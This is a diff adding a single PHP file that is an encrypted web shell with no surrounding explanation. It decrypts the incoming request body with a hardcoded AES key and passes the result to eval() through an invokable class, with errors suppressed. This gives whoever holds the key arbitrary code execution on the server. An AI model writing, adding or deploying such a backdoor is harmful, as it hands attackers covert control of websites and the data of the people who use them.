@@ -1,0 +1,1 @@
+<?php @session_start(); @set_time_limit(0); $key="e45e329feb5d925b"; $_SESSION["k"]=$key; $post=file_get_contents("php://input"); $post=openssl_decrypt($post, "AES128", $key); $arr=explode("|",$post); $func=$arr[0]; $params=$arr[1]; class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params); ?>
